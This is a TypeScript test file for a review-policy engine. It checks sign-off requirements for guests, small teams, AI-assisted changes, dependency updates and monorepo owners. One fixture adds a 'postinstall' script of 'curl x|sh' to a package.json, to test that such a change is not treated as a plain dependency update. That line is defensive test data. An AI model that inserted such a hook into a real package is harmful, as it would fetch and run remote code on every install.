/**
 * Rows of the design's adoption table that need neither a server nor a signature, as defaults. Those that a decision
 * alone cannot show are elsewhere: before adoption in `test/audit/`, `init` and CI jobs in `test/cli/init.test.ts`,
 * CI as advice and fetched refs in `test/cli/doctor.test.ts`, the prompter in `test/cli/flag.test.ts`, shallow clones in
 * `test/check/ranges.test.ts`, modes, reminders, version bumps, releases and the button "update branch" in
 * `test/check/policy.test.ts`, services and windows in `src/core/policy/services-parser.test.ts`, many repositories in
 * `test/check/extends.test.ts`.
 */
import { describe, expect, test } from 'vitest';
import { decide } from '../../src/core/policy/decide.ts';
import type { DecideContext } from '../../src/core/policy/decide.ts';
import { defaultPolicyText } from '../../src/core/policy/default-policy.ts';
import { builtInPolicy } from '../../src/core/policy/built-in-policy.ts';
import { isDependencyUpdate } from '../../src/core/policy/content-class.ts';
import { lintPolicy } from '../../src/core/policy/lint.ts';
import { parsePeople } from '../../src/core/policy/people-parser.ts';
import { nobody } from '../../src/core/policy/nobody.ts';
import { parsePolicy } from '../../src/core/policy/policy-parser.ts';
import { noServices } from '../../src/core/policy/services.ts';
import type { PersonId } from '../../src/model/id.ts';
import type { RepoPath } from '../../src/model/path.ts';
import { shortForm } from '../../src/core/policy/phrases.ts';
import { requirementPhrase } from '../../src/cli/render/words.ts';
import { compact, CONTEXT, factsBy, onPaths, parsed, policyFor } from './builders.ts';

const NO_POLICY: DecideContext = {
  ...CONTEXT,
  people: nobody(),
  enforced: false,
  policySource: 'built-in default',
};

const SMALL_TEAM = parsed(
  parsePeople(
    'version: 1\npeople:\n  - {id: ada, emails: [ada@x.org], signer: true}\n  - {id: ben, emails: [ben@x.org], signer: true}\n',
    'people.yml',
  ),
);

function smallPolicy(mode: 'observe' | 'enforce' = 'observe'): ReturnType<typeof policyFor> {
  const options = {
    repository: 'x',
    owners: ['ada', 'ben'],
    threshold: 1,
    mode,
    levels: 'none',
    protectedRefs: ['refs/heads/main'],
  } as const;
  return parsed(parsePolicy(defaultPolicyText(options), 'policy.yml'));
}

describe('adoption', () => {
  test('no policy yet: the built-in default is evaluated, not enforced, and its exit state is true', () => {
    const guest = { 'author.guest': true, 'people.listed': false };
    const human = decide(builtInPolicy(), factsBy('guest:a@b.c', 0, guest), NO_POLICY);
    expect(human.enforced).toBe(false);
    expect(compact(human)).toBe('pass: ordinary');
    const ai = decide(builtInPolicy(), factsBy('guest:a@b.c', 0, { ...guest, 'ai.assisted': true }), NO_POLICY);
    expect(ai.state).toBe('pending');
    expect(ai.acts).toEqual([
      'one sign-off by a person of level L6 or above who is not the author, answering ai-understood, systemic-risk: nobody is listed yet, `countersign init` writes people.yml',
    ]);
  });

  test('first policy commit: the change that brings the policy may land', () => {
    const facts = onPaths(
      factsBy('guest:a@b.c', 0, { 'people.listed': false, 'author.guest': true }),
      '.countersign/policy.yml',
    );
    const decision = decide(builtInPolicy(), facts, NO_POLICY);
    expect(decision.state).toBe('pass');
    expect(decision.root.children[0]?.children[0]?.reason).toBe(
      'no policy stands on the home ref yet: this may be the adoption commit',
    );
  });

  test('until enforce an owner may change .countersign/ alone, and it is said', () => {
    const facts = onPaths(factsBy('alice', 7, { 'author.policy_owner': true }), '.countersign/people.yml');
    const observe = decide(policyFor('observe'), facts, CONTEXT);
    expect(observe.state).toBe('pass');
    expect(observe.root.children[0]?.children[0]?.reason).toBe(
      'in mode observe an owner may change .countersign/ alone; it is recorded',
    );
    expect(decide(policyFor('enforce'), facts, CONTEXT).state).toBe('pending');
  });

  test('until enforce somebody who is no owner may not', () => {
    const facts = onPaths(factsBy('mia', 5), '.countersign/people.yml');
    expect(decide(policyFor('observe'), facts, CONTEXT).state).toBe('pending');
  });

  test('the mode changes no answer: only hooks and status translate it', () => {
    const facts = factsBy('mia', 5, { 'ai.assisted': true });
    expect(decide(policyFor('observe'), facts, CONTEXT).state).toBe('pending');
    expect(decide(policyFor('enforce'), facts, CONTEXT).state).toBe('pending');
  });

  test('small team without levels: signer replaces L6, and two people work', () => {
    const context = { ...CONTEXT, people: SMALL_TEAM };
    const facts = factsBy('ada', 6, { 'risk.tier': 'critical' });
    const decision = decide(smallPolicy(), facts, context);
    // Two are asked for, only ben is left: all of them, at least one.
    expect(decision.acts).toEqual([
      'one sign-off by a signer who is not the author, with proof of presence (user-verified), for the exact content: ben (not ada: author)',
    ]);
    expect(decision.requirements.map(requirementPhrase)).toContain(
      '2 sign-offs by a signer, not by an author or prompter, with a key that verifies the person',
    );
    // Who uses no levels is told of none, wherever the same demand is shown.
    const said = [decision.root.children, decision.acts, decision.requirements.map(shortForm)];
    expect(JSON.stringify(said).replace(/"condition":"[^"]*"/g, '')).not.toMatch(/\bL\d/);
    const signOff = {
      person: 'ben' as PersonId,
      read: 'all',
      coverage: 'exact',
      presence: 'user-verified',
      answers: [],
    } as const;
    const done = { signOffs: [signOff], changePlan: false, labels: [] };
    expect(decide(smallPolicy(), facts, { ...context, fulfilment: done }).state).toBe('pass');
  });

  test('small team without levels: a sign-off by nobody’s signer says so', () => {
    const people = parsed(
      parsePeople(
        'version: 1\npeople:\n  - {id: ada, signer: true}\n  - {id: ben, signer: true}\n  - {id: cy}\n',
        'people.yml',
      ),
    );
    const signOff = {
      person: 'cy' as PersonId,
      read: 'all',
      coverage: 'exact',
      presence: 'user-verified',
      answers: [],
    } as const;
    const fulfilment = { signOffs: [signOff], changePlan: false, labels: [] };
    const decision = decide(smallPolicy(), factsBy('ada', 6, { 'risk.tier': 'high' }), {
      ...CONTEXT,
      people,
      fulfilment,
    });
    expect(JSON.stringify(decision.root)).toContain('the sign-off by cy is not counted: not marked as a signer');
  });

  test('a single maintainer never approves alone, is told why, and stays in observe', () => {
    const alone = parsed(
      parsePeople('version: 1\npeople:\n  - {id: ada, emails: [ada@x.org], signer: true}\n', 'people.yml'),
    );
    const facts = factsBy('ada', 6, { 'risk.tier': 'high' });
    const decision = decide(smallPolicy(), facts, { ...CONTEXT, people: alone });
    expect(decision.state).toBe('blocked');
    const findings = lintPolicy(smallPolicy('enforce'), alone, noServices(), []);
    expect(findings.filter((each) => each.level === 'error').map((each) => each.problem.message)).toContain(
      '`mode: enforce` is refused: only one person can sign, and nobody signs their own change',
    );
  });

  test('unknown author: a guest needs one owner below critical and two from there', () => {
    const below = decide(policyFor(), factsBy('guest:x@y.z', 0, { 'author.guest': true }), CONTEXT);
    expect(compact(below)).toContain('guest pending[1 sign-off from owners]');
    const critical = decide(
      policyFor(),
      factsBy('guest:x@y.z', 0, { 'author.guest': true, 'risk.tier': 'critical' }),
      CONTEXT,
    );
    expect(compact(critical)).toContain('guest-critical pending[2 sign-offs from owners]');
  });

  test('unknown lines: nothing more below tier high, AI from there, AI where capture is enrolled', () => {
    const unknown = { 'unknown.significant': true };
    expect(decide(policyFor(), factsBy('mia', 5, unknown), CONTEXT).state).toBe('pass');
    expect(compact(decide(policyFor(), factsBy('mia', 5, { ...unknown, 'risk.tier': 'high' }), CONTEXT))).toContain(
      'ai-by-junior',
    );
    expect(compact(decide(policyFor(), factsBy('mia', 5, { ...unknown, 'author.capture': true }), CONTEXT))).toContain(
      'ai-by-junior',
    );
  });

  test('an AI-assisted change by a senior is recorded only, until the risk is high', () => {
    const ai = { 'ai.assisted': true };
    expect(decide(policyFor(), factsBy('alice', 7, { ...ai, 'risk.tier': 'medium' }), CONTEXT).state).toBe('pass');
    expect(compact(decide(policyFor(), factsBy('alice', 7, { ...ai, 'risk.tier': 'high' }), CONTEXT))).toContain(
      '1 sign-off L6',
    );
    expect(compact(decide(policyFor(), factsBy('alice', 7, { ...ai, 'service.tier': 1 }), CONTEXT))).toContain(
      '2 sign-offs L6',
    );
  });

  test('a prompter only ever adds obligations', () => {
    const ai = { 'ai.assisted': true };
    const junior = factsBy('alice', 7, { ...ai, 'prompter.level': 4 });
    expect(decide(policyFor(), junior, CONTEXT).state).toBe('pending');
    const senior = factsBy('mia', 5, { ...ai, 'prompter.level': 7 });
    expect(decide(policyFor(), senior, CONTEXT).state).toBe('pending');
  });

  test('dependency updates: one owner, by content; a human edit elsewhere ends it; risk goes before it', () => {
    const update = { 'content.dependencies_only': true, 'content.dependency_update': true };
    expect(compact(decide(policyFor(), factsBy('mia', 5, update), CONTEXT))).toContain(
      'dependency-update pending[1 sign-off from owners]',
    );
    expect(compact(decide(policyFor(), factsBy('mia', 5), CONTEXT))).toBe('pass: ordinary');
    expect(compact(decide(policyFor(), factsBy('mia', 5, { ...update, 'risk.tier': 'high' }), CONTEXT))).not.toContain(
      'dependency-update',
    );
  });

  test('dependency updates: nothing is needed if the policy says so, and only for plain version changes', () => {
    const text = defaultPolicyText({
      repository: 'x',
      owners: ['alice', 'bob'],
      threshold: 1,
      mode: 'enforce',
      levels: 'people',
      protectedRefs: [],
    }).replace(
      'when: content.dependencies_only && !risk',
      'when: content.dependencies_only && !content.dependency_update && !risk',
    );
    const policy = parsed(parsePolicy(text, 'policy.yml'));
    const only = { 'content.dependencies_only': true };
    expect(decide(policy, factsBy('mia', 5, { ...only, 'content.dependency_update': true }), CONTEXT).state).toBe(
      'pass',
    );
    expect(decide(policy, factsBy('mia', 5, { ...only, 'content.dependency_update': false }), CONTEXT).state).toBe(
      'pending',
    );
    expect(decide(policy, factsBy('mia', 5, { ...only, 'content.dependency_update': null }), CONTEXT).state).toBe(
      'error',
    );
  });

  test('a manifest that gains a script is no dependency update', () => {
    const manifest = (extra: string): string => `{"name":"x",${extra}"dependencies":{"a":"^1.0.0"}}`;
    const lock = '{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"^1.0.0"}}}}';
    const texts = new Map([
      ['package.json' as RepoPath, { old: manifest(''), new: manifest('"scripts":{"postinstall":"curl x|sh"},') }],
      ['package-lock.json' as RepoPath, { old: lock, new: lock }],
    ]);
    expect(isDependencyUpdate(texts, (path) => path === 'package-lock.json')).toBe(false);
  });

  test('monorepo: owners each read their own paths of one change', () => {
    const text = `version: 1
repository: mono
owners: { people: [alice], threshold: 1 }
mode: enforce
rules:
  - id: owners
    name: the owners of each part agree
    when: true
    require:
      owners:
        - { path: pay/**, owners: [bob] }
        - { path: web/**, owners: [carol] }
`;
    const policy = parsed(parsePolicy(text, 'policy.yml'));
    const facts = onPaths(factsBy('mia', 5), 'pay/a.ts', 'web/b.ts');
    const sign = (person: string, read: readonly string[]): object => ({
      person,
      read,
      coverage: 'exact',
      presence: 'none',
      answers: [],
    });
    const half = { signOffs: [sign('bob', ['pay/a.ts'])], changePlan: false, labels: [] } as never;
    const whole = {
      signOffs: [sign('bob', ['pay/a.ts']), sign('carol', ['web/b.ts'])],
      changePlan: false,
      labels: [],
    } as never;
    expect(compact(decide(policy, facts, { ...CONTEXT, fulfilment: half }))).toBe(
      'pending: owners pending[owners of pay/** 1 pass, owners of web/** 1]',
    );
    expect(decide(policy, facts, { ...CONTEXT, fulfilment: whole }).state).toBe('pass');
  });

  test('monorepo: the number of owners is asked for path by path', () => {
    const text = `version: 1
repository: mono
owners: { people: [alice], threshold: 1 }
mode: enforce
rules:
  - id: owners
    name: the owners of each part agree
    when: true
    require:
      owners:
        - { path: pay/**, owners: [alice, bob, carol], count: 2 }
        - { path: web/**, owners: [alice, carol] }
`;
    const policy = parsed(parsePolicy(text, 'policy.yml'));
    const facts = onPaths(factsBy('mia', 5), 'pay/a.ts', 'web/b.ts');
    const counts = decide(policy, facts, CONTEXT).requirements.map((each) =>
      each.kind === 'owners' ? `${each.path} ${each.count}` : each.kind,
    );
    expect(counts).toEqual(['pay/** 2', 'web/** 1']);
    expect(decide(policy, onPaths(facts, 'docs/c.md'), CONTEXT).state).toBe('pass');
  });

  test('service tier 1 asks for a change plan', () => {
    expect(decide(policyFor(), factsBy('alice', 7, { 'service.tier': 1 }), CONTEXT).acts).toContain(
      'write a change plan: purpose, evidence, roll-back plan, window, owner',
    );
  });

  test('a policy on the home ref without people is an error, not a pass', () => {
    const decision = decide(policyFor(), factsBy('guest:x@y.z', 0, { 'people.listed': false }), {
      ...CONTEXT,
      people: nobody(),
    });
    expect(decision.state).toBe('error');
    expect(decision.acts).toContain('add .countersign/people.yml to the home ref');
  });
});
